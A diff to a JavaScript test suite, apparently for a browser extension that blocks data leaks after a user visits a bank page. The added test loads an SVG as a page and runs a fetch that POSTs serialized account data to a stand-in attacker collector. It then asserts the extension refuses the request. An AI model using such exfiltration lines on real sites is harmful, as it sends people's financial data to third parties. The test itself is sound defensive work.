@@ -45,7 +45,8 @@ onmessage = () => import('http://${ELSEWHERE}/late.js').catch(() => {});`;
 const open = { 'access-control-allow-origin': '*' };
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"/>';
 const extra = {
-  [TRAINS]: () => page({ title: 'Trains', name: 'Trains', body: raw(LIST) }),
+  [TRAINS]: ({ path }) =>
+    path === '/plan.svg' ? file('image/svg+xml', SVG) : page({ title: 'Trains', name: 'Trains', body: raw(LIST) }),
   [API]: () => json(['seven', 'nine'], open),
   [PICTURES]: () => file('image/svg+xml', SVG, open),
   [PAY]: ({ path }) =>
@@ -145,6 +146,14 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     assert.ok(arrived('/c/plain'), 'the place was not reached');
     for (const way of PLAIN_WAYS) await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
     await scene.hands.wait(1_000);
+    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+    // A picture that is a document is told so, too.
+    await scene.hands.goto(`http://${TRAINS}/plan.svg`);
+    const told = await scene.hands.run(`Promise.race([
+      fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(account)} }).then(() => 'went', () => 'refused'),
+      new Promise((later) => setTimeout(later, 8000, 'no answer')),
+    ])`);
+    assert.equal(told, extension ? 'refused' : 'went');
     assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
   });
 
